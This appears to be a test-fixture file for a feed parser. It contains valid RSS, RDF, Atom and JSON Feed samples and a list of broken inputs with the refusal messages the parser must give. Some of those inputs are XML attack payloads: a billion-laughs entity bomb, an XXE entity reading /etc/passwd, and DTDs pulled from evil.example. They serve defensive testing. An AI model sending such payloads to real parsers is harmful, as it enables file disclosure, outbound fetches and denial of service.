/** Feed documents written for these tests: one valid feed per format, and broken or hostile ones. */

export const BODY = 'The council met on Tuesday to approve the new budget for the harbour district. The plan includes new housing, a school and a tram stop, and will be paid for by a mix of grants and borrowing over ten years.';
export const BODY2 = 'Residents spoke for and against the plan at the meeting, which ran until late in the evening. Several asked how the tram stop would affect traffic on the coast road, and the council promised a study before building starts next spring.';

export const RSS2 = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>Harbour &amp;amp; Coast News</title>
  <link>https://harbour.example/</link>
  <atom:link href="https://harbour.example/feed.xml" rel="self" type="application/rss+xml"/>
  <ttl>60</ttl>
  <item>
    <title>Council approves harbour budget</title>
    <link>/story/1?utm_source=rss</link>
    <guid isPermaLink="false">story-1</guid>
    <pubDate>Sat, 28 Nov 2026 10:00:00 GMT</pubDate>
    <dc:creator>Ann Reporter</dc:creator>
    <description>Teaser about the budget.</description>
    <content:encoded><![CDATA[<p>${BODY}</p><p>${BODY2}</p>]]></content:encoded>
  </item>
  <item>
    <title>Ferry timetable changes</title>
    <guid>https://harbour.example/story/2</guid>
    <author>desk@harbour.example (News Desk)</author>
    <pubDate>Fri, 27 Nov 2026 09:30:00 +0100</pubDate>
    <description>&lt;p&gt;The winter timetable starts &lt;b&gt;Monday&lt;/b&gt;.&lt;/p&gt;</description>
  </item>
</channel>
</rss>`;

export const RSS091 = `<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old Wire</title><link>http://old.example/</link><description>old</description>
<item><title>Still here</title><link>http://old.example/1</link><description>An old-style feed item.</description></item>
</channel></rss>`;

export const RDF = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example/">
    <title>RDF Times</title><link>https://rdf.example/</link><description>news</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://rdf.example/1"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example/1">
    <title>One</title><link>https://rdf.example/1</link>
    <description>${BODY}</description>
    <dc:date>2026-11-28T09:00:00Z</dc:date><dc:creator>Rita</dc:creator>
  </item>
</rdf:RDF>`;

export const ATOM = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="html">Atom &amp;amp; Co</title>
  <id>urn:uuid:atom-news</id><updated>2026-11-28T08:00:00Z</updated>
  <link rel="self" href="https://atom.example/feed.atom"/>
  <link rel="alternate" href="https://atom.example/"/>
  <author><name>Feed Author</name></author>
  <entry>
    <title type="text">HTML entry</title><id>tag:atom.example,2026:1</id>
    <link rel="alternate" href="/e/1"/><link rel="edit" href="/edit/1"/>
    <published>2026-11-28T08:00:00Z</published><updated>2026-11-28T08:30:00Z</updated>
    <author><name>Ann</name></author>
    <summary>Short summary.</summary>
    <content type="html">&lt;p&gt;${BODY}&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>XHTML entry</title><id>tag:atom.example,2026:2</id><link href="https://atom.example/e/2"/>
    <updated>2026-11-27T08:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hello <b>world</b>.</p></div></content>
  </entry>
  <entry>
    <title>Text entry</title><id>tag:atom.example,2026:3</id><link href="https://atom.example/e/3"/>
    <updated>2026-11-26T08:00:00Z</updated>
    <content type="text">First para with a &lt; sign.

Second para.</content>
  </entry>
</feed>`;

export const JSON_FEED = JSON.stringify({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'JSON Gazette',
  home_page_url: 'https://json.example/',
  feed_url: 'https://json.example/feed.json',
  authors: [{ name: 'Gazette Staff' }],
  items: [
    { id: '1', url: '/a/1', title: 'HTML item', content_html: `<p>${BODY}</p>`, summary: 'The summary.', date_published: '2026-11-28T07:00:00Z', authors: [{ name: 'Jo' }] },
    { id: '2', external_url: 'https://elsewhere.example/x', title: 'Text item', content_text: `${BODY}\n\n${BODY2}`, date_modified: '2026-11-27T07:00:00Z' },
  ],
});

export const JSON_FEED_V1 = JSON.stringify({
  version: 'https://jsonfeed.org/version/1', title: 'Old JSON', items: [{ id: 7, url: 'https://j1.example/7', content_text: 'x', author: { name: 'Solo' } }],
});

const lols = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Broken or hostile inputs, with what the refusal must say. */
export const BROKEN: { name: string; body: string; message: RegExp }[] = [
  { name: 'empty', body: '', message: /^not a feed: the response is empty$/ },
  { name: 'whitespace', body: ' \n\t ', message: /^not a feed: the response is empty$/ },
  { name: 'truncated XML', body: RSS2.slice(0, 700), message: /^not a feed: the XML is malformed or cut short$/ },
  { name: 'HTML page', body: '<!DOCTYPE html><html><head><title>Hi</title></head><body><p>Not a feed</p></body></html>', message: /^not a feed: this is a web page/ },
  { name: 'XML that is not a feed', body: '<?xml version="1.0"?><note><to>You</to></note>', message: /^not a feed: no RSS, Atom, RDF or JSON Feed found$/ },
  { name: 'plain text', body: 'just some words', message: /^not a feed: the content is neither XML nor JSON$/ },
  { name: 'JSON that is not a feed', body: '{"hello":"world","items":[1,2]}', message: /^not a feed: no RSS, Atom, RDF or JSON Feed found in the JSON$/ },
  { name: 'JSON array', body: '[{"title":"x"}]', message: /^not a feed: JSON, but not a JSON Feed$/ },
  { name: 'invalid JSON', body: '{"version": "https://jsonfeed.org/version/1.1", "items": [', message: /^not a feed: the JSON is invalid or cut short$/ },
  { name: 'billion laughs', body: `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">${lols}]><rss version="2.0"><channel><title>&l10;</title></channel></rss>`, message: /^refused: the feed declares XML entities \(possible entity-expansion attack\)$/ },
  { name: 'XXE SYSTEM entity', body: '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>', message: /entities/ },
  { name: 'XXE parameter entity', body: '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><rss version="2.0"><channel><title>x</title></channel></rss>', message: /entities/ },
  { name: 'external DTD', body: '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss version="2.0"><channel><title>x</title></channel></rss>', message: /^refused: the feed references an external DTD/ },
  { name: 'unknown PUBLIC DTD', body: '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Evil//DTD X//EN" "http://evil.example/x.dtd"><rss version="2.0"><channel><title>x</title></channel></rss>', message: /external DTD/ },
  { name: 'entities after a long comment', body: `<?xml version="1.0"?><!-- ${'x'.repeat(100_000)} --><!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"><channel><title>&a;</title></channel></rss>`, message: /entities/ },
];
